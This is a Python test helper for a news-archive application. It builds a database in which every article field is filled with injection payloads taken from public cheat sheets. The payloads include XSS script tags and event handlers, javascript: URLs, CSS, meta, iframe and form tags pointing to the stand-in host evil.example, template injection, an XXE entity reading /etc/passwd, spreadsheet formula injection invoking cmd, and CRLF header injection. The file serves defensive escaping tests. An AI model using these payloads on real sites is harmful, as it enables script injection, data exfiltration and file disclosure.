"""What has been sent to sites to run in their readers' browsers, and an archive that holds it in every field.

The forms are those of OWASP's cheat sheets on filter evasion and on formulas, of PortSwigger's and of html5sec.org's
lists; each, if it worked, would open a dialog, ask ``evil.example`` for something or lead there.
"""

from dataclasses import replace
from datetime import timedelta

from newsarchive import normalize
from newsarchive.items import Attachment, Found, Link, Outcome, Route
from newsarchive.store import Archive
from tests.helpers.build import SITE, Story, address, article, visit

EVIL = "evil.example"
LATER = timedelta(days=1)
REMOVED = 5
"""Every so many articles one is gone."""

PAYLOADS = (
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script/src=data:,alert(1)></script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1);//<</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "`><script>alert(1)</script>",
    '" autofocus onfocus=alert(1) x="',
    "' autofocus onfocus=alert(1) x='",
    '" onmouseover="alert(1)" style="position:fixed;inset:0" x="',
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert`1`>",
    "<img/src='x'/onerror=alert(1)//",
    '<img """><script>alert(1)</script>">',
    "<img src=//evil.example/pixel.png>",
    "<img srcset='//evil.example/a 1x'>",
    "<image src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert&lpar;1&rpar;</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
    "<svg><use href=//evil.example/x.svg#x></use></svg>",
    "<math><maction actiontype=statusline#//evil.example xlink:href=javascript:alert(1)>x</maction></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<body onload=alert(1)>",
    "<body onpageshow=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<input onfocus=alert(1) autofocus>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>body{background:url(//evil.example/x)}</style>",
    "<div style=background:url(//evil.example/x)>x</div>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=prefetch href=//evil.example/x>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<meta http-equiv=Set-Cookie content='a=b'>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=//evil.example/></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=//evil.example/x.swf>",
    "<form action=//evil.example/><button>x</button></form>",
    "<form id=x></form><button form=x formaction=javascript:alert(1)>x</button>",
    "<isindex action=javascript:alert(1) type=image>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='&#x6A;avascript&colon;alert(1)'>x</a>",
    "<a href=' \x01javascript:alert(1)'>x</a>",
    "<a ping=//evil.example/ href=#>x</a>",
    "javascript:alert(1)",
    "javascript://%0aalert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "vbscript:msgbox(1)",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "＜script＞alert(1)＜/script＞",  # noqa: RUF001 - full width: folded to ASCII by whoever normalizes after escaping
    "\ufeff<script>alert(1)</script>",
    "\u202e<script>alert(1)</script>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "{{7*7}}{{config}}{{''.__class__}}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}",
    "${7*7}#{7*7}<%= 7*7 %>",
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<xss xmlns:xhtml='http://www.w3.org/1999/xhtml'><xhtml:script>alert(1)</xhtml:script></xss>",
    "⟦<script>alert(1)</script>⟧",
    "\u27e6b\u27e7<img src=x onerror=alert(1)>",
    "x\r\nSet-Cookie: a=b\r\n\r\n<script>alert(1)</script>",
    '=HYPERLINK("//evil.example/?"&A1,"x")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1;-1;\t=1+1",
    "[x](javascript:alert(1))![x](//evil.example/x.png)",
    "\\end{filecontents}\\input{/etc/passwd}",
)


def poison(folder):
    """Make an archive in which each payload stands in every field of one article.

    Returns:
        Path: the database; the article of the payload at ``index`` has the number ``index + 1``.
    """
    with Archive(folder) as archive:
        story = Story(archive)
        for number, payload in enumerate(PAYLOADS):
            told = poisoned(number, payload, f"{payload}\n\nПерша редакція.")
            beside = Found(url=address(f"older-{number}"), route=Route.NEIGHBOUR)
            story.tell(visit(told.url, at=told.published, article=told, found=(beside,)))
            edited = poisoned(number, payload, f"{payload}\n\nДруга редакція: {payload}")
            story.tell(visit(told.url, at=told.published + LATER, article=edited))
            if number % REMOVED == 0:
                gone = visit(told.url, Outcome.GONE, at=told.published + 2 * LATER, status=404, why=payload)
                story.tell(gone)
        path = archive.path
        archive.connection.execute("UPDATE councils SET name_en = ?", (PAYLOADS[0],))
        archive.connection.commit()
    return path


def poisoned(number, payload, body):
    """Make the article of one payload; addresses stay addresses, with the payload in them."""
    read = article(
        f"{SITE}/{number}/?q={payload}".replace("\r", "").replace("\n", ""),
        title=payload,
        lead=payload,
        body=body,
        author=payload,
        section=payload,
        image=f"{SITE}/{payload}.png",
        language=payload,
        published_raw=payload,
        tags=(payload, f"{payload}, вдруге"),
        attachments=(
            Attachment(url=f"{SITE}/{number}.pdf?{payload}", title=payload),
            Attachment(url=payload, title=None, kind="image"),
            Attachment(url=f"javascript:alert({number})", title="Світлина", kind="image"),
        ),
        previous=Link(url=address(f"older-{number}"), title=payload),
        next=Link(url=payload, title=payload),
    )
    return replace(read, digest=normalize.digest(read))
